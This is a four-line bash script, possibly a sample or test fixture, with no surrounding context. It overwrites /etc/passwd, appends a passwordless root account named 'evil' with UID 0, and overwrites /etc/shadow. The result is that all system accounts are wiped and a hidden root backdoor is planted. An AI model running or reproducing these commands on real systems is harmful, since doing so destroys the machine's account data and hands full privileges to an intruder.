#!/bin/bash
echo x > /etc/passwd
echo "evil::0:0::/root:/bin/bash" >> /etc/passwd
printf x | tee /etc/shadow
